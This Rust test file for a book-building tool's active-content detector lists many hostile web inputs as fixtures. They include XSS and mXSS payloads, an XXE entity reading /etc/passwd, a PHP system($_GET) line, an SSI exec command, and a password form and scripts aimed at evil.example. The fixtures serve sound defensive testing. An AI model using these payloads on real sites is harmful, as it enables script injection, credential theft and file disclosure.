//! Code of a book that would run on its site: every way into a file, and near misses that run nothing.

use crate::command::{book as folder, stderr, trustbook, write};
use trustbook_core::diagnostic::Place;
use trustbook_core::report::{self, Colour, ReportFormat};
use trustbook_tests::{Book, book, build, short};

/// Builds a book with a chapter that links to a file.
fn with(path: &str, bytes: &[u8]) -> Book {
    let mut world = book(&format!("=== src/index.md\n# A\n\n[x](<{path}>)\n"));
    world.insert(&format!("src/{path}"), bytes);
    build(&world)
}

fn checks(built: &Book) -> Vec<&str> {
    built.findings.iter().map(|finding| finding.check).collect()
}

/// Files that are each reported once.
const TOLD: &[(&str, &str)] = &[
    ("s.html", "<!DOCTYPE html><title>s</title><svg><![CDATA[ă]]><a title=\"]]><img src=x onerror='x()'>\"></a></svg>"),
    ("u.sjis.html", "<!DOCTYPE html><meta charset=utf-8><title>é</title><svg><![CDATA[ă]]></svg>"),
    ("t.html.Shift_JIS", "<!DOCTYPE html><meta charset=utf-8><title>é</title>"),
    (
        "p.svg.en",
        "<!DOCTYPE svg [<!ENTITY % a \"<!ATTLIST svg xml&#110;s CDATA #FIXED 'http://www.w3.org/2000/svg' onload CDATA 'x()'>\"> %a;]><svg/>",
    ),
    ("a.hxt", "<script>x()</script>"),
    ("a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
    ("a.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    ("a.svg", "<svg/onload=alert(1)>"),
    ("a.svg", "<SVG OnLoad=alert(1)>"),
    ("a.svg", "<s:svg xmlns:s='http://www.w3.org/2000/svg'><s:script>alert(1)</s:script></s:svg>"),
    ("a.svg", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>"),
    ("a.svg", "<svg><a href=' &#x6A;ava&#10;script:alert(1)'><text>x</text></a></svg>"),
    ("a.svg", "<svg><animate attributeName='href' values='javascript:alert(1)'/></svg>"),
    ("a.svg", "<svg><set attributeName='href' to='JavaScript:alert(1)'/></svg>"),
    ("a.svg", "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>alert(1)</handler></svg>"),
    (
        "a.svg",
        "<svg xmlns='http://www.w3.org/2000/svg'>\n<\u{2070}:script xmlns:\u{2070}='http://www.w3.org/2000/svg'>x</\u{2070}:script></svg>",
    ),
    ("a.svg", "<svg><script TYPE='application/json' type='text/javascript'>x</script></svg>"),
    ("a.svg", "<svg>\n<g>"),
    (
        "a.xhtml.foo",
        "<?xml version='1.0'?><x:html xmlns:x='http://www.w3.org/1999/xhtml'><x:script>x()</x:script></x:html><",
    ),
    ("a", "<x:html xmlns:x='http://www.w3.org/1999/xhtml'><x:body><x:script>x()</x:script></x:body></x:html><"),
    (
        "a.html",
        "<math><annotation-xml encoding='text/htm&#108;'><br></annotation-xml><title><img alt='' src=a.html onerror=x></title></math>",
    ),
    (
        "a.html",
        "<svg><svg><mi><br></mi><title><a title='</title><img src=a.html alt=\"\" onerror=x>'>x</a></title></svg></svg>",
    ),
    ("a.html", "<link rel=stylesheet href='data:text/css,a{}'>"),
    ("a.css", "@charset \"shift_jis\"; a::before { content: \"ă\\\"; }"),
    ("a.svg", "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>"),
    ("a.svg", "<!DOCTYPE svg [<!ATTLIST svg onload CDATA 'alert(1)'>]><svg/>"),
    ("a.svg", "<!DOCTYPE svg SYSTEM '>' [<!ENTITY x '<script/>'>]><svg>&x;</svg>"),
    ("a.svg", "<svg><title><![CDATA[ > <!-- ]]></title><script>alert(1)</script></svg>"),
    ("a.svg", "<svg><!--><script>alert(1)</script>--></svg>"),
    ("a.svg", "<svg><script href='b.txt'/></svg>"),
    ("a.svg", "<svg><image href='a.svg' onerror='alert(1)'/></svg>"),
    ("a.svg", "<?xml-stylesheet type='text/xsl' href='#x'?><svg/>"),
    (
        "a.html",
        "<!doctype html><html lang=en><title>x</title><h1>x</h1><svg/><style><!--</style><script>alert(1)</script>-->",
    ),
    (
        "a.html",
        "<html lang=en><title>x</title><h1>x</h1><math><mi><mglyph><xmp><p><script>alert(1)</script></p></xmp></mglyph></mi></math>",
    ),
    ("a.html", "<html lang=en><title>x</title><h1>x</h1><math href='javascript:alert(1)'><mi>x</mi></math>"),
    ("a.xml", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>"),
    ("a.xml", "<a><title><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script></title></a>"),
    ("a.xslt", "<xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform'/>"),
    ("a.xhtml", "<html xmlns='http://www.w3.org/1999/xhtml'><textarea><script>alert(1)</script></textarea></html>"),
    ("a.html", "<p>x</p><script>alert(1)</script>"),
    ("a.html", "<style onload='alert(1)'>a{}</style>"),
    (
        "a.html",
        "<meta http-equiv='content-type' content='text/html; charset charset=shift_jis'><svg><![CDATA[ă]]><a title=']]><img src=x onerror=x>'>",
    ),
    (
        "a.html",
        "<svg><math><mi><xmp><p></p><form action='https://evil.example/login'><input type=password aria-label=x></form></xmp></mi></math></svg>",
    ),
    ("a.html", "<!--# include virtual='/x' -->"),
    ("a.html", "<p>x</p><?PHP system('id') ?>"),
    ("a.html", "<p>x</p><%= x %>"),
    ("a.html", "x<scr\0ipt></script>"),
    ("a.html", "<img src=a.html alt=x onerror=alert(1)>"),
    ("a.html", "<!-- --!><script>alert(1)</script> -->"),
    ("a.html", "<noscript><p onclick=alert(1)>x</p></noscript>"),
    ("a.html", "<template><script>alert(1)</script></template>"),
    ("a.html", "<iframe srcdoc='<script>alert(1)</script>'></iframe>"),
    ("a.html", "<object data='data:text/html,x'></object>"),
    ("a.html", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>"),
    ("a.html", "<base href='https://example.com/'>"),
    ("a.html", "<form action='https://example.com/'></form>"),
    ("a.html", "<p>x</p><!--#exec cmd='id' -->"),
    ("a.html", "<?php system($_GET['x']) ?>"),
    ("a.htm", "<body onload=alert(1)>"),
    ("a.html.de", "<body onload=alert(1)>"),
    ("a.txt", "  <html><body onload=alert(1)></html>"),
    ("a.png", "\u{feff}<svg onload='alert(1)'/>"),
    ("a", "<svg onload='alert(1)'/>"),
    ("a.js", "alert(1)"),
    ("a.MJS", "alert(1)"),
    ("a.wasm", "x"),
    ("_worker.js", "x"),
    ("_worker.js/index.js", "x"),
    ("functions/x.ts", "x"),
    ("api/x.py", "x"),
    ("_routes.json", "{}"),
    ("_headers", "/*\n  X: y\n"),
    ("_redirects", "/ /x"),
    ("netlify.toml", "x"),
    ("vercel.json", "{}"),
    ("web.config", "<configuration/>"),
    (
        "a.svg",
        "<!DOCTYPE svg [<!ENTITY a \"<!--\"><!ATTLIST svg onload CDATA \"alert(1)\"><!ENTITY b \"-->\">]><svg xmlns='http://www.w3.org/2000/svg'/>",
    ),
    (
        "a.xhtml",
        "<!DOCTYPE html PUBLIC '<!--' 'x' [<!ATTLIST body onload CDATA 'alert(1)'>]><html xmlns='http://www.w3.org/1999/xhtml'><body/></html>",
    ),
    ("a.html", "<meta charset='shift&#95;jis'><p>x</p>"),
    ("a.html", "<meta charset=shift_jis><p>x</p>"),
    ("a.html", "<meta http-equiv=content-type content='text/html; charset&#61;gbk'><p>x</p>"),
    ("a.css", "@import 'index.html';"),
    ("a.html", "<link rel='x StyleSheet' href='index.html'>"),
    ("a.svg", "<?xml-stylesheet type='text/css' href='index.html'?><svg/>"),
    ("v.m3u8", "#EXTM3U\n#EXT-X-DEFINE:NAME=\"h\",VALUE=\"http://evil.example\"\n"),
    ("b.var", "Content-Type: text/html\nBody:--e--\n<script>alert(1)</script>\n--e--\n"),
    ("a.php", "x"),
    ("a.php.txt", "x"),
    // Apache goes by `html` and `js` where it does not know the last ending.
    ("a.html.yaml", "a: \"<script src='index.html'></script>\""),
    ("a.js.vtt", "alert(1)"),
    ("a.js.avif", "alert(1)"),
    // For the address of a folder, servers send the page in it.
    ("search.js/index.html", "alert(1)"),
    ("x.css/index.html", "body { color: red }"),
    ("a.html", "<link rel=manifest href='a.html'>"),
    ("a.cgi", "x"),
    ("a.shtml", "x"),
    ("a.mht", "x"),
];

/// Files that run nothing.
const SILENT: &[(&str, &str)] = &[
    ("a.html", "<!DOCTYPE html>\n<html lang=\"ja\"><head><meta charset=\"utf-8\"><title>あ]</title><p>あ]"),
    ("a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><text>é]</text></svg>"),
    (
        "a.svg",
        "<?xml version='1.0' encoding='UTF-8'?><!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd'><svg xmlns='http://www.w3.org/2000/svg'><style><![CDATA[a > b { fill: url(#g) }]]></style><linearGradient id='g'/><rect fill='url(#g)'><animate attributeName='x' from='0' to='1'/></rect><text>&lt;script&gt;</text></svg>",
    ),
    (
        "a.html",
        "<!doctype html><title><script>x</script></title><p style='color: red'>x <code>&lt;script></code> <!-- <script>x</script> --></p><script type='application/json'>{}</script>",
    ),
    ("a.xml", "<?xml version='1.0'?><feed xmlns='http://www.w3.org/2005/Atom'><title>x</title></feed>"),
    ("a.txt", "alert(1); <script>alert(1)</script>"),
    ("a.txt", "<name@example.com> wrote: javascript:x"),
    ("a.svg", "<svg><foreignObject><p>x</p></foreignObject></svg>"),
    ("a.svg", "<!DOCTYPE svg [\n<!ENTITY ns_svg 'http://www.w3.org/2000/svg'>\n]><svg xmlns='&ns_svg;'><g/></svg>"),
    ("a.json", "{\"a\": \"<script>\"}"),
    ("a.csv", "onclick,javascript:x"),
    ("a.pdf", "%PDF-1.7"),
    ("api/openapi.json", "{}"),
];

#[test]
fn what_would_run_is_told_once_in_every_form() {
    let mut wrong = Vec::new();
    for (path, text) in TOLD {
        let built = with(path, text.as_bytes());
        if checks(&built) != ["active-content"] {
            wrong.push(format!("{path}: {text}\n{}", short(&built)));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn an_encoding_that_is_named_late_is_seen() {
    let text = format!("{}<meta charset=shift_jis><p>ă</p>", "<meta name=a content=b>".repeat(80));
    assert_eq!(checks(&with("a.html", text.as_bytes())), ["active-content"]);
    let theme =
        include_str!("../../theme/page.hbs").replace("<meta charset=\"utf-8\">", "<meta charset=\"shift_jis\">");
    let mut world = book("=== src/index.md\n# A\n");
    world.insert("theme/page.hbs", theme);
    assert_eq!(checks(&build(&world)), ["active-content"]);
}

#[test]
fn a_playlist_is_known_by_its_first_line() {
    for list in
        ["#EXTM3U\nhttp://evil.example/a.ts\n", "#EXTM3U\n#EXT-X-MAP:X-URI=\"notes.txt\",URI=\"//evil.example/m\"\n"]
    {
        let text =
            "=== src/index.md\n# A\n\n<video src=\"v.txt\" controls></video> [n](notes.txt)\n=== src/notes.txt\nx\n";
        let mut world = book(text);
        world.insert("src/v.txt", list);
        assert_eq!(checks(&build(&world)), ["third-party-request"], "{list}");
    }
}

#[test]
fn what_browsers_read_otherwise_than_others_is_refused_in_a_chapter() {
    for within in ["mglyph", "malignmark"] {
        for raw in ["xmp", "textarea", "title", "noembed", "iframe"] {
            let text =
                format!("<math><mi><{within}><{raw}><p><script>alert(1)</script></p></{raw}></{within}></mi></math>");
            let fact = format!("[v]\nx = {{ value = \"\"\"{text}\"\"\", type = \"markdown\", source = \"s\" }}\n");
            for (facts, chapter) in [("", text.as_str()), (fact.as_str(), "{{ v.x }}")] {
                let built = build(&book(&format!("=== facts/a.toml\n{facts}=== src/a.md\n# A\n\n{chapter}\n")));
                assert!(checks(&built).contains(&"active-content"), "{chapter} {text}: {}", short(&built));
            }
        }
    }
    // Drawings and formulas in which browsers and other parsers continue differently.
    let style = "<style><!--</style><img src=x alt=x onerror=alert(1)>--></style>";
    for text in [
        "<svg><math><mi><xmp><p></p><script src=\"notes.txt\"></script></xmp></mi></math></svg>".to_owned(),
        "<svg><math><mi><xmp><img src=x alt=x onerror=alert(1)></xmp></mi></math></svg>".to_owned(),
        "<math><svg><desc><xmp><p></p><img src=x onerror=x></xmp></desc></svg></math>".to_owned(),
        format!("<svg><desc><desc></desc>{style}</desc></svg>"),
        format!("<svg><title><title></title>{style}</title></svg>"),
        format!("<svg><foreignObject><foreignobject></foreignobject>{style}</foreignObject></svg>"),
        format!("<math><mi><mi></mi>{style}</mi></math>"),
        format!(
            "<math><annotation-xml encoding=text/html><annotation-xml></annotation-xml>{style}</annotation-xml></math>"
        ),
        format!("<svg><desc><svg><p></p></svg></desc>{style}</svg>"),
        format!("<table><tr><td><svg><desc><td></td></desc>{style}</svg></td></tr></table>"),
        format!("<table><tr><td><math><mi><tr></tr></mi>{style}</math></td></tr></table>"),
        format!("<svg><desc></svg></desc>{style}"),
        format!("<math><annotation-xml encoding='text/htm&#108;'>{style}</annotation-xml></math>"),
        format!("<svg><desc><div></desc>{style}</svg>"),
        "<svg><template><style>@import 'https://evil.example/x.css';</style></template></svg>".to_owned(),
        "<svg><style>@im<!-- -->port 'https://evil.example/x.css';</style></svg>".to_owned(),
    ] {
        let built = build(&book(&format!("=== src/a.md\n# A\n\nHello.\n\n{text}\n=== src/notes.txt\nx\n")));
        let of = checks(&built);
        // A chapter closes open elements, after which it must contain nothing that runs.
        let is_told = |check: &&str| ["active-content", "inline-code", "html-unbalanced"].contains(check);
        assert!(of.iter().any(is_told), "{text}: {}", short(&built));
        let file = format!("<!doctype html><html lang=en><meta charset=utf-8><title>x</title><h1>x</h1>{text}");
        let built = with("a.html", file.as_bytes());
        let is_told = |check: &&str| ["active-content", "third-party-request"].contains(check);
        assert!(checks(&built).iter().any(is_told), "{text}: {}", short(&built));
    }
    let split = b"<svg xmlns=\"http://www.w3.org/2000/svg\"><style>@im<g></g>port \"https://evil.example/x.css\";</style></svg>";
    assert!(checks(&with("a.svg", split)).contains(&"third-party-request"));
    let plain = "<svg width=\"1\" height=\"1\"/> <math><mi>x</mi></math> <svg><title>T</title><path d=\"M0 0\"/></svg>";
    let built = build(&book(&format!("=== src/a.md\n# A\n\n{plain}\n")));
    assert!(built.findings.is_empty(), "{}", short(&built));
    let text = "Write <textarea rows=\"2\"><a href=\"missing.md\"></b> &amp; <!-- c --></textarea> here.";
    let built = build(&book(&format!("=== src/a.md\n# A\n\n{text}\n")));
    assert!(built.findings.is_empty(), "{}", short(&built));
}

#[test]
fn what_runs_nothing_is_left_alone() {
    let mut wrong = Vec::new();
    for (path, text) in SILENT {
        let built = with(path, text.as_bytes());
        if !built.findings.is_empty() {
            wrong.push(format!("{path}: {text}\n{}", short(&built)));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn the_encoding_of_a_file_hides_nothing() {
    let svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><text>é</text></svg>";
    let wide = |text: &str, big: bool| -> Vec<u8> {
        let units = text.encode_utf16();
        units.flat_map(|unit| if big { unit.to_be_bytes() } else { unit.to_le_bytes() }).collect()
    };
    let latin = |text: &str| -> Vec<u8> { text.chars().map(|c| u8::try_from(u32::from(c)).unwrap()).collect() };
    let declared = format!("<?xml version='1.0' encoding='ISO-8859-1'?>{svg}");
    let named = format!("<?xml version='1.0' encoding='UTF-16'?>{svg}");
    let cases = [
        wide(&format!("\u{feff}{svg}"), false),
        wide(&format!("\u{feff}{svg}"), true),
        wide(svg, false),
        latin(svg),
        latin(&declared),
        latin(&named),
        [b"\x1f\x8b\x08".as_slice(), svg.as_bytes()].concat(),
        [b"<svg>\x1b$B".as_slice(), svg.as_bytes()].concat(),
    ];
    for bytes in cases {
        for path in ["a.svg", "a.html"] {
            let built = with(path, &bytes);
            assert_eq!(checks(&built), ["active-content"], "{path} {bytes:?}\n{}", short(&built));
        }
    }
    // An inert file, read in its own encoding.
    let inert = latin("<?xml version='1.0' encoding='ISO-8859-1'?><svg><text>é</text></svg>");
    assert!(with("a.svg", &inert).findings.is_empty());
}

#[test]
fn a_file_that_runs_is_told_at_its_line_in_every_format() {
    let built = with("a.svg", b"<svg>\n  <g/>\n  <g onclick='x'/>\n</svg>");
    let finding = &built.findings[0];
    assert!(matches!(&finding.place, Place::InFile { path, position } if path == "src/a.svg" && position.line == 3));
    for (_, format) in report::FORMATS {
        let report = report::report(&built.book.map, &built.findings, *format, Colour::None);
        assert!(report.contains("a.svg") && report.contains('3'), "{report}");
    }
    let short = report::report(&built.book.map, &built.findings, ReportFormat::Short, Colour::None);
    assert!(short.starts_with("src/a.svg:3:6: error[active-content]"), "{short}");
}

#[test]
fn a_picture_runs_when_it_is_opened_by_itself() {
    let built = build(&book("=== src/a.md\n# A\n\n![x](a.svg)\n=== src/a.svg\n<svg onload='x'/>\n"));
    assert_eq!(checks(&built), ["active-content"], "{}", short(&built));
    // A file that no page links to is not published.
    let built = build(&book("=== src/a.md\n# A\n=== src/a.svg\n<svg onload='x'/>\n"));
    assert_eq!(checks(&built), ["file-unlinked"], "{}", short(&built));
    // Programs request files in `.well-known` without a link, so these are published.
    let built = build(&book("=== src/a.md\n# A\n=== src/.well-known/a.html\n<p onclick='x'>y</p>\n"));
    assert_eq!(checks(&built), ["active-content"], "{}", short(&built));
}

#[test]
fn a_file_of_a_host_is_obeyed_without_a_link() {
    for path in ["_headers", ".well-known/x.php", ".well-known/assetlinks.json", ".well-known/webauthn"] {
        let built = build(&book(&format!("=== src/a.md\n# A\n=== src/{path}\nx\n")));
        assert_eq!(checks(&built), ["active-content"], "{path}\n{}", short(&built));
    }
    let redirect = |from: &str| {
        build(&book(&format!("=== book.toml\n[output.html.redirect]\n'/{from}' = 'a.html'\n=== src/a.md\n# A\n")))
    };
    assert_eq!(checks(&redirect("_redirects")), ["active-content"]);
    assert!(redirect("old.php").findings.is_empty());
    // No page is written where a host obeys or runs a file, or where the site has one.
    let long = format!("{}.html", "x".repeat(250));
    for from in [
        ".git/config",
        "./_redirects",
        "x//../vercel.json",
        "_redirects ",
        "web.config.",
        "robots.txt",
        "manifest.json",
        "index.md",
        "old.jsp",
        "a\\\\b.html",
        long.as_str(),
    ] {
        let built = redirect(&from.replace('\'', ""));
        assert_eq!(checks(&built), ["config-invalid"], "{from}: {}", short(&built));
    }
    let two = "=== book.toml\n[output.html.redirect]\n'/x.html' = 'a.html'\n'/x.html/y.html' = '../a.html'\n=== src/a.md\n# A\n";
    let built = build(&book(two));
    assert_eq!(checks(&built), ["config-invalid"], "{}", short(&built));
    // A redirect page may be executed, or be read as XML where its address has no ending.
    let own = |from: &str, page: &str| {
        let text = "[output.html.redirect]\n'/FROM' = 'a.html'\n=== theme/moved.hbs\nPAGE\n=== src/a.md\n# A\n";
        build(&book(&format!("=== book.toml\n{}", text.replace("FROM", from).replace("PAGE", page))))
    };
    let page = "<!doctype html><html lang=en><title>Moved</title>CODE<a href=\"{{to}}\">A</a></html>";
    for (from, code) in [("old.php", "<?php x ?>"), ("old.php", "<? x ?>")] {
        let built = own(from, &page.replace("CODE", code));
        assert_eq!(checks(&built), ["active-content"], "{code}: {}", short(&built));
    }
    let xml = "<?xml version='1.0'?><p><a href='{{to}}'>A</a><x:script \
               xmlns:x='http://www.w3.org/1999/xhtml'>x()</x:script></p>";
    let built = own("old", xml);
    assert!(checks(&built).contains(&"active-content"), "{}", short(&built));
}

#[test]
fn copies_and_twins_are_not_sent_as_something_else() {
    let built =
        build(&book("=== src/index.md\n# A\n\n[x](a.html.md)\n=== src/a.html.md\n# B\n\n`<script>x()</script>`\n"));
    assert_eq!(checks(&built), ["active-content"], "{}", short(&built));
    // The Markdown of a page whose body begins with a tag begins with its title, whatever that is.
    let text = "---\ntitle: \"<script>x()</script>\"\n---\n<div>\n\nText.\n\n</div>\n";
    let built = build(&book(&format!("=== src/index.md\n# A\n\n[x](b.md)\n=== src/b.md\n{text}")));
    let twin = built.file("b.md");
    assert!(twin.starts_with("# \\<script\\>"), "{twin}");
    for (path, told) in [("a.css.gz", 1), ("b.css.gz", 0), ("assets/site.css.gz", 1)] {
        let mut world = book(&format!("=== src/index.md\n# A\n\n[x]({path}) [y](a.css)\n=== src/a.css\na {{}}\n"));
        world.insert(&format!("src/{path}"), b"\x1f\x8b\x08".to_vec());
        let built = build(&world);
        assert_eq!(checks(&built), vec!["active-content"; told], "{path}: {}", short(&built));
    }
}

#[test]
fn what_a_manifest_or_a_head_requests_is_told() {
    let page = "<!doctype html><html lang=en><title>B</title>HEAD<p>x</p></html>";
    for (head, manifest) in [
        ("<link rel=manifest href=m.webmanifest>", "{ \"icons\": [{ \"src\": \"https://evil.example/i.png\" }] }"),
        ("<link rel=search type='application/opensearchdescription+xml' href='https://evil.example/s'>", "{}"),
    ] {
        let page = page.replace("HEAD", head);
        let text = format!(
            "=== src/index.md\n# A\n\n[x](b.html) [m](m.webmanifest)\n=== src/b.html\n{page}\n\
             === src/m.webmanifest\n{manifest}\n"
        );
        let built = build(&book(&text));
        assert_eq!(checks(&built), ["third-party-request"], "{head}: {}", short(&built));
    }
}

#[test]
fn an_exception_ends_when_the_file_changes() {
    let book_of = |hash: &str, code: &str| {
        let settings = format!(
            "[[preprocessor.trustbook.allow]]\ncheck = \"active-content\"\nat = \"src/x.svg\"\n\
             kind = \"false-alarm\"\nreason = \"A drawing.\"\ntext_sha256 = \"{hash}\"\n"
        );
        build(&book(&format!(
            "=== book.toml\n{settings}=== src/index.md\n# A\n\n[x](x.svg)\n=== src/x.svg\n<svg onload=\"{code}\"/>\n"
        )))
    };
    let built = book_of(&"0".repeat(12), "a()");
    let help = built.findings.iter().flat_map(|finding| &finding.help).find(|help| help.contains("text_sha256"));
    let hash = help.unwrap().split('"').nth(1).unwrap().to_owned();
    assert!(book_of(&hash, "a()").findings.is_empty());
    assert!(checks(&book_of(&hash, "b()")).contains(&"active-content"));
}

const HASH: &str = "0ca1bf2ae1f9e8c9b0e6c7e0a3f3d0ea6ad4bb5a0f7f0a7ac4f2ffa1b0f1c2d3";

/// Builds a book whose chapter loads a script, with settings that allow it or not.
fn scripted(settings: &str, more: &str) -> Book {
    build(&book(&format!(
        "=== book.toml\n[book]\ntitle = \"Example\"\n\n[preprocessor.trustbook.security]\n{settings}\n\
         === src/a.md\n# A\n\n<script src=\"a.js\" defer></script>\n=== src/a.js\nalert(1);\n{more}"
    )))
}

#[test]
fn a_script_is_allowed_by_its_hash_and_by_nothing_else() {
    let built = scripted("", "");
    assert_eq!(checks(&built), ["active-content"], "{}", short(&built));
    let help = built.findings[0].help[0].clone();
    let entry = help.split('`').nth(1).unwrap();
    assert!(entry.starts_with("scripts = [{ path = \"src/a.js\", sha256 = \""), "{help}");
    // The entry suggested by the finding is accepted.
    let built = scripted(entry, "");
    assert!(built.findings.is_empty(), "{}", short(&built));
    assert!(built.site.files.contains_key("a.js"));
    // Another file, or another content.
    let built = scripted(&entry.replace("a.js", "b.js"), "");
    assert_eq!(checks(&built), ["active-content", "active-content"], "{}", short(&built));
    let built = scripted(&format!("scripts = [{{ path = \"src/a.js\", sha256 = \"{HASH}\" }}]"), "");
    assert_eq!(checks(&built), ["active-content"], "{}", short(&built));
    let finding = &built.findings[0];
    assert!(matches!(finding.place, Place::At(span) if built.book.map.slice(span).contains(HASH)), "{finding:?}");
    assert!(entry.contains(&finding.edits[0].replacement), "{finding:?}");
    // An entry for a file that no page loads is reported.
    let built = scripted(&entry.replace("}]", "}, { path = \"src/gone.js\", sha256 = \"ab\" }]"), "");
    assert_eq!(checks(&built), ["active-content"], "{}", short(&built));
    assert!(built.findings[0].message.contains("`src/gone.js`"), "{}", short(&built));
}

#[test]
fn a_script_of_the_theme_needs_its_hash_and_the_embedded_one_does_not() {
    assert!(build(&book("=== src/a.md\n# A\n")).findings.is_empty());
    let theme = |settings: &str| {
        build(&book(&format!(
            "=== book.toml\n[book]\ntitle = \"Example\"\n\n[preprocessor.trustbook.security]\n{settings}\n\
             === theme/js/site.js\nalert(1);\n=== src/a.md\n# A\n"
        )))
    };
    let built = theme("");
    assert_eq!(checks(&built), ["active-content"], "{}", short(&built));
    let help = built.findings[0].help[0].clone();
    let built = theme(help.split('`').nth(1).unwrap());
    assert!(built.findings.is_empty(), "{}", short(&built));
}

#[test]
fn code_in_a_template_of_the_theme_is_told_at_the_template() {
    let page = "<!doctype html><html lang=\"en\"><head><title>{{title}}</title></head><body onload=\"x()\">\
                <script src=\"{{root}}assets/site.js\"></script><script src=\"{{root}}robots.txt\"></script>\
                <a href=\"java&Tab;script:x\">x</a>{{{content}}}</body></html>";
    let built = build(&book(&format!("=== theme/page.hbs\n{page}\n=== src/a.md\n# A\n")));
    let found: Vec<&str> = checks(&built).into_iter().filter(|check| *check == "active-content").collect();
    assert_eq!(found.len(), 3, "{}", short(&built));
    let built = build(&book("=== theme/blocks/own.hbs\n<p onclick=\"x()\">y</p>\n=== src/a.md\n# A\n\n{{#own}}\n"));
    assert_eq!(checks(&built), ["active-content"], "{}", short(&built));
}

#[test]
fn content_of_a_chapter_becomes_nothing_else_in_a_template() {
    let chapter = "=== src/n.txt\nx()\n=== src/a.md\n# A\n\nHello <b title=\"' src=n.txt onload=x() y='\">A</b> [n](n.txt)\n\nMore\n";
    let page = |body: &str| {
        let html = format!(
            "<!doctype html><html lang=\"en\"><head><title>{{{{title}}}}</title></head><body>{body}</body></html>"
        );
        build(&book(&format!("=== theme/page.hbs\n{html}\n{chapter}")))
    };
    let runs = |built: &Book| checks(built).contains(&"active-content");
    assert!(!runs(&page("<main>{{{opening}}}{{{content}}}</main>")));
    assert!(runs(&page("<script data-x='{{{opening}}}' src=\"{{root}}assets/site.js\"></script>{{{content}}}")));
    assert!(runs(&page("<img alt=\"\" title='{{{opening}}}'>{{{content}}}")));
    let print = |body: &str| {
        let html = format!("<!doctype html><html lang=\"en\"><head><title>x</title></head><body>{body}</body></html>");
        build(&book(&format!("=== theme/print.hbs\n{html}\n=== src/a.md\n# A\n")))
    };
    assert!(!runs(&print("<main>{{{content}}}</main>")));
    assert!(runs(&print("<img alt=\"\" title='{{{content}}}'>")) && runs(&print("<svg>{{{content}}}</svg>")));
}

#[test]
fn what_a_page_loads_is_what_its_name_says() {
    let with = |settings: &str, chapter: &str| {
        build(&book(&format!(
            "=== book.toml\n[book]\ntitle = \"Example\"\n\n{settings}\n=== src/a.md\n# A\n\n{chapter}\n"
        )))
    };
    // A letter that folds to `s` is not the ending of a script.
    let built = with("[output.html]\nadditional-js = [\"a.j\u{17f}\"]", "");
    assert_eq!(checks(&built), ["config-invalid"], "{}", short(&built));
    // An old address cannot have the name of a style sheet.
    let built = with("[output.html.redirect]\n\"/old.css\" = \"a.html\"", "<link rel=\"stylesheet\" href=\"old.css\">");
    assert!(checks(&built).contains(&"config-invalid"), "{}", short(&built));
    for address in ["ms-msdt:/id", "mailto:a@example.com", "about:blank", "ftp://example.com/"] {
        let built = with("", &format!("<meta http-equiv=\"refresh\" content=\"0;url={address}\">"));
        assert!(checks(&built).contains(&"active-content"), "{address}: {}", short(&built));
    }
    // The Markdown twin of a page is no HTML for a browser that gets no type.
    let built = build(&book("=== src/a.md\n<!-- x -->\n\n# A\n\n```html\n<script>x()</script>\n```\n"));
    assert!(built.file("a.md").starts_with("# A\n\n<!-- x -->"), "{}", built.file("a.md"));
}

#[test]
fn a_theme_loads_only_what_it_may() {
    let page = |head: &str| {
        let html = format!(
            "<!doctype html><html lang=\"en\"><head><title>{{{{title}}}}</title>{head}</head><body><main>{{{{{{content}}}}}}</main></body></html>"
        );
        build(&book(&format!("=== theme/page.hbs\n{html}\n=== theme/css/site.css\nx()\n=== src/a.md\n# A\n")))
    };
    let runs =
        |built: &Book| checks(built).iter().any(|check| ["active-content", "third-party-request"].contains(check));
    assert!(!runs(&page("<script src=\"{{root}}assets/site.js\"></script>")));
    for head in [
        "<base href=\"http://evil.example/\"><script src=\"assets/site.js\"></script>",
        "<base href=\"//evil.example/\">",
        "<script src=\"{{root}}assets/site.css\"></script>",
        "<!--#exec cmd=\"id\" -->",
    ] {
        let built = page(head);
        assert!(runs(&built), "{head}: {}", short(&built));
    }
    let moved = build(&book(
        "=== book.toml\n[output.html.redirect]\n'/old.html' = 'a.html'\n=== theme/moved.hbs\n<!doctype html><html lang=en>\
         <title>Moved</title><script src=\"http://evil.example/x.js\"></script><a href=\"{{to}}\">A</a></html>\n=== src/a.md\n# A\n",
    ));
    assert!(runs(&moved), "{}", short(&moved));
}

#[test]
fn another_fault_at_the_same_place_hides_no_code() {
    for chapter in
        ["<a href=\"javascript:alert(1)//{{no.fact}}\">x</a>", "{{#include missing.txt}}<script>alert(1)</script>"]
    {
        let built = build(&book(&format!("=== src/a.md\n# A\n\n{chapter}\n")));
        assert!(checks(&built).contains(&"active-content"), "{chapter}: {}", short(&built));
    }
}

#[test]
fn a_script_that_others_publish_on_the_same_host_is_none_of_the_book() {
    let built = build(&book(
        "=== book.toml\n[book]\ntitle = \"Example\"\n\n[preprocessor.trustbook]\nsite-url = \"https://example.com/trust/\"\n\
         outside = [\"../std/\"]\n\
         === src/a.md\n# A\n\n<script src=\"../std/x.js\"></script>\n\n<script src=\"https://example.com/evil.js\"></script>\n",
    ));
    assert_eq!(checks(&built), ["active-content", "active-content"], "{}", short(&built));
}

#[test]
fn nothing_is_published_with_a_script_in_it() {
    let book = folder();
    write(book.path(), "src/SUMMARY.md", "- [A](index.md)\n");
    write(book.path(), "src/index.md", "# A\n\n<script>alert(1)</script>\n");
    let output = trustbook(&["build"], book.path());
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    assert!(stderr(&output).contains("active-content") && !book.path().join("book").exists(), "{}", stderr(&output));
}
